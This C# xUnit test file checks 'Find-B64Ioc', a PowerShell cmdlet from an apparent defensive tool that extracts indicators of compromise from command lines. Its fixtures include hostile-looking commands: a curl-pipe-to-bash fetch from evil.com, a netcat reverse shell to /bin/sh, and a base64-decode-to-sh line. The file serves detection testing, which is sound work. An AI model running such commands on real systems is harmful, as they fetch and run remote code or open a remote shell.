using System.Linq;
using System.Management.Automation;
using System.Management.Automation.Runspaces;
using B64Hunt.Commands;
using B64Hunt.Model;
using Xunit;

namespace B64Hunt.Tests.Iocs
{
    /// <summary>Find-B64Ioc hosted in a runspace (the module's data folder is the test output's data/).</summary>
    public class FindB64IocCommandTests
    {
        private static PowerShell NewShell()
        {
            var iss = InitialSessionState.CreateDefault2();
            iss.Commands.Add(new SessionStateCmdletEntry("Find-B64Ioc", typeof(FindB64IocCommand), null));
            return PowerShell.Create(iss);
        }

        [Fact]
        public void StringsBecomeEventsWithTheirIndicators()
        {
            using var ps = NewShell();
            var output = ps.AddScript("'curl http://evil.com/a.sh|bash', 'nothing here' | Find-B64Ioc").Invoke();
            Assert.False(ps.HadErrors);
            var events = output.Select(o => (CommandEvent)o.BaseObject).ToList();
            Assert.Equal(2, events.Count);
            Assert.Equal(new[] { "url:http://evil.com/a.sh", "dns:evil.com" }, events[0].Iocs.Select(i => i.ToString()).ToArray());
            Assert.Empty(events[1].Iocs);
            Assert.All(events[0].Iocs, i => Assert.Null(i.Event));
        }

        [Fact]
        public void ExpandEmitsRowsThatPointAtTheirEvent()
        {
            using var ps = NewShell();
            var commandEvent = new CommandEvent { CommandLine = "x", DecodedCommand = "nc 93.184.216.34 4444 -e /bin/sh" };
            ps.AddCommand("Find-B64Ioc").AddParameter("Expand").AddParameter("InputObject", new object[] { commandEvent });
            var rows = ps.Invoke().Select(o => (Ioc)o.BaseObject).ToList();
            Assert.Equal(new[] { "ipv4:93.184.216.34", "linux_path:/bin/sh" }, rows.Select(i => i.ToString()).ToArray());
            Assert.All(rows, r => Assert.Same(commandEvent, r.Event));
            Assert.Equal(2, commandEvent.Iocs.Count);
            Assert.All(commandEvent.Iocs, i => Assert.Null(i.Event));
        }

        [Fact]
        public void IocTypeRestrictsAndIncludeCommandLineAddsTheOuterLine()
        {
            using var ps = NewShell();
            var commandEvent = new CommandEvent
            {
                CommandLine = "echo Y3VybA== | base64 -d | sh; ping beacon.evil.org",
                DecodedCommand = "curl http://evil.com/a.sh|bash",
            };
            ps.AddCommand("Find-B64Ioc").AddParameter("IocType", new[] { "dns" }).AddParameter("IncludeCommandLine")
                .AddParameter("InputObject", new object[] { commandEvent });
            var output = ps.Invoke();
            Assert.Same(commandEvent, output.Single().BaseObject);
            Assert.Equal(new[] { "dns:evil.com", "dns:beacon.evil.org" }, commandEvent.Iocs.Select(i => i.ToString()).ToArray());
        }

        [Fact]
        public void IndicatorsAlreadyOnTheEventAreNotAddedAgain()
        {
            using var ps = NewShell();
            var commandEvent = new CommandEvent { DecodedCommand = "ping evil.com" };
            ps.AddCommand("Find-B64Ioc").AddParameter("InputObject", new object[] { commandEvent });
            ps.Invoke();
            ps.Commands.Clear();
            ps.AddCommand("Find-B64Ioc").AddParameter("InputObject", new object[] { commandEvent });
            ps.Invoke();
            Assert.Single(commandEvent.Iocs);
        }

        [Fact]
        public void OtherObjectsAreReportedAndSkipped()
        {
            using var ps = NewShell();
            var output = ps.AddScript("42, 'ping evil.com' | Find-B64Ioc -Expand").Invoke();
            Assert.Equal("dns:evil.com", output.Single().BaseObject.ToString());
            Assert.Equal("UnsupportedInputObject,B64Hunt.Commands.FindB64IocCommand", ps.Streams.Error.Single().FullyQualifiedErrorId);
        }

        [Fact]
        public void AMissingSuffixListStopsTheCommand()
        {
            using var ps = NewShell();
            ps.AddCommand("Find-B64Ioc").AddParameter("PublicSuffixPath", "./no-such-list.dat")
                .AddParameter("InputObject", new object[] { "ping evil.com" });
            var error = Assert.ThrowsAny<RuntimeException>(() => ps.Invoke());
            Assert.Equal("PublicSuffixListNotFound,B64Hunt.Commands.FindB64IocCommand", error.ErrorRecord.FullyQualifiedErrorId);
        }

        [Fact]
        public void AnotherSuffixListChangesWhatCountsAsADomain()
        {
            string path = System.IO.Path.Combine(System.IO.Path.GetTempPath(), "b64hunt-psl-" + System.Guid.NewGuid() + ".dat");
            System.IO.File.WriteAllText(path, "// test list\nevil\n");
            try
            {
                using var ps = NewShell();
                ps.AddCommand("Find-B64Ioc").AddParameter("Expand").AddParameter("PublicSuffixPath", path)
                    .AddParameter("InputObject", new object[] { "echo c2.evil x.com" });
                var rows = ps.Invoke().Select(o => o.BaseObject.ToString()).ToArray();
                Assert.Equal(new[] { "dns:c2.evil" }, rows);
            }
            finally
            {
                System.IO.File.Delete(path);
            }
        }
    }
}
